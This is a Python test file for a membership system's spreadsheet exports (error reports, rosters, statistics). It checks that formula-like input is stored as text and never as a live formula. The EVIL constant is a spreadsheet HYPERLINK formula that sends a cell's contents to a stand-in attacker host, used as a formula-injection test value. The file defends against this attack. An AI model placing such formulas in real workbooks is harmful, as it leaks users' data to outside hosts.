"""No cell we write is a formula: texts that look like one are text cells with their value unchanged."""

from __future__ import annotations

import io
from datetime import date
from types import SimpleNamespace

from openpyxl import load_workbook

from documents.enrollment_sheets import StatisticsRow, statistics_xlsx
from documents.fake_members import HEADERS
from documents.workbooks import ROSTER_COLUMNS, errors_xlsx, roster_xlsx, template_xlsx
from models.states import CardType, Gender, IdType

EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
LOOKALIKES = [EVIL, "=1+1", "+86 139", "-2+3", "@SUM(A1:A9)", "\t=1", "\n=2", "普通文字", "=", ""]


def cells_of(body: bytes, sheet: int = 0) -> list[list[tuple[object, str]]]:
    ws = load_workbook(io.BytesIO(body)).worksheets[sheet]
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


def test_errors_xlsx_keeps_formula_lookalikes_as_text_and_round_trips() -> None:
    headers = HEADERS[:3]
    rows = [(i + 2, [value, "x", value], [f"原因{i}"]) for i, value in enumerate(LOOKALIKES)]
    table = cells_of(errors_xlsx(headers, rows))
    assert [v for v, _ in table[0]] == [*headers, "原行号", "错误原因"]
    for (row_no, cells, _), written in zip(rows, table[1:], strict=True):
        value = cells[0]
        if value:
            assert written[0] == (value, "s") and written[2] == (value, "s")
        assert written[3] == (row_no, "n")


def test_control_characters_are_written_in_the_ooxml_escape() -> None:
    table = cells_of(errors_xlsx(["a"], [(2, ["\x01=x\x1f"], ["m"])]))
    assert table[1][0] == ("_x0001_=x_x001F_", "s")  # Excel reads these back as the characters


def test_the_roster_and_the_statistics_never_carry_a_formula() -> None:
    member = SimpleNamespace(**{key: "x" for _, key in ROSTER_COLUMNS})
    member.work_address, member.contact_address, member.id_long_term = EVIL, "@cmd", False
    roster = cells_of(roster_xlsx("B1", "=union", "@branch", [member]))
    assert all(t != "f" for row in roster for _, t in row)
    row = roster[2]
    assert row[[k for _, k in ROSTER_COLUMNS].index("work_address")] == (EVIL, "s")
    line = StatisticsRow("101-0001", EVIL, "-S01", "completed", "+a", 3, 300, 100, 100, 100, date(2026, 3, 1))
    for sheet in (0, 1):
        stats = cells_of(statistics_xlsx("=district", 2026, [line]), sheet)
        assert all(t != "f" for r in stats for _, t in r)
    assert (EVIL, "s") in cells_of(statistics_xlsx("d", 2026, [line]))[2]
    assert all(t != "f" for r in cells_of(template_xlsx()) for _, t in r)


def test_the_bank_roster_shows_chinese_labels_not_codes() -> None:
    member = SimpleNamespace(**{key: "x" for _, key in ROSTER_COLUMNS})
    member.id_type, member.gender, member.card_type = IdType.RESIDENT_ID, Gender.FEMALE, CardType.DEBIT
    member.id_expiry, member.id_long_term = None, True
    row = [text for text, _ in cells_of(roster_xlsx("B1", "u", "b", [member]))[2]]
    keys = [k for _, k in ROSTER_COLUMNS]
    assert row[keys.index("id_type")] == "居民身份证" and row[keys.index("gender")] == "女"
    assert row[keys.index("card_type")] == "借记卡" and row[keys.index("id_expiry")] == "长期"
    assert not {"resident_id", "female", "debit"} & set(row)
